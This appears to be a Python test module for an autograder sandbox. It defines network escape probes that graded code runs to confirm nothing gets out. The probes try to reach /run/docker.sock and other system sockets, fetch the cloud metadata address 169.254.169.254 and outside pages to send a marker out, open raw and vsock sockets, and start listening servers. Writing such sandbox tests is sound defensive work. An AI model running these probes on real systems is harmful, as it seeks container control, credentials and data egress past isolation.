"""Attacks that talk to the world. The test listens; nothing may arrive."""

from autograder.tests.attacks.attack import Attack, code

FAMILY = "network"

TALK = """\
import os, socket
def talk(family, kind, address):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(1)
            line.connect(address)
            line.sendall(KNOWN["mark"].encode())
            print("connected to", address)
    except (OSError, AttributeError) as error:
        print(address, error)
"""

ATTACKS: tuple[Attack, ...] = (
    code(
        "net-loopback",
        FAMILY,
        "a service on the grader's own machine, over TCP and UDP",
        first=TALK
        + """\
for host in ("127.0.0.1", "127.0.0.2", "localhost", "0.0.0.0"):
    talk(socket.AF_INET, socket.SOCK_STREAM, (host, KNOWN["port"]))
    talk(socket.AF_INET, socket.SOCK_DGRAM, (host, KNOWN["port"]))
talk(socket.AF_INET6, socket.SOCK_STREAM, ("::1", KNOWN["port"]))
print(socket.if_nameindex())""",
    ),
    code(
        "net-unix",
        FAMILY,
        "sockets of the machine that have a path or an abstract name",
        first=TALK
        + """\
talk(socket.AF_UNIX, socket.SOCK_STREAM, KNOWN["socket"])
talk(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + KNOWN["abstract_socket"])
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
    talk(socket.AF_UNIX, socket.SOCK_STREAM, path)""",
    ),
    code(
        "net-out",
        FAMILY,
        "names are looked up, and pages fetched, to carry something out",
        first=TALK
        + """\
import urllib.request
socket.setdefaulttimeout(0.5)
for url in ("http://169.254.169.254/latest/meta-data/", "http://192.0.2.1/", "https://example.com/"):
    try:
        print("fetched", urllib.request.urlopen(url, timeout=0.5).read(100))
    except Exception as error:
        print(url, error)
talk(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53))""",
    ),
    code(
        "net-raw",
        FAMILY,
        "sockets that a network namespace does not hold: raw, packet, vsock, crypto, netlink",
        first=TALK
        + """\
for family in set(range(46)) - {1, 2, 10, 16}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        try:
            socket.socket(family, kind)
            print("reached: " + f"socket_family_{family}")
        except (OSError, TypeError):
            pass
for host in (0, 1, 2):
    talk(40, socket.SOCK_STREAM, (host, 2024))""",
    ),
    code(
        "net-listen",
        FAMILY,
        "a server that waits for the grader or another learner to call",
        first=TALK
        + """\
kept = []
for family, address in ((socket.AF_INET, ("0.0.0.0", 0)), (socket.AF_UNIX, "/tmp/" + KNOWN["mark"] + ".sock"),
                        (socket.AF_UNIX, "\\0" + KNOWN["mark"])):
    try:
        line = socket.socket(family)
        line.bind(address)
        line.listen()
        kept.append(line)
    except OSError as error:
        print(error)""",
    ),
)
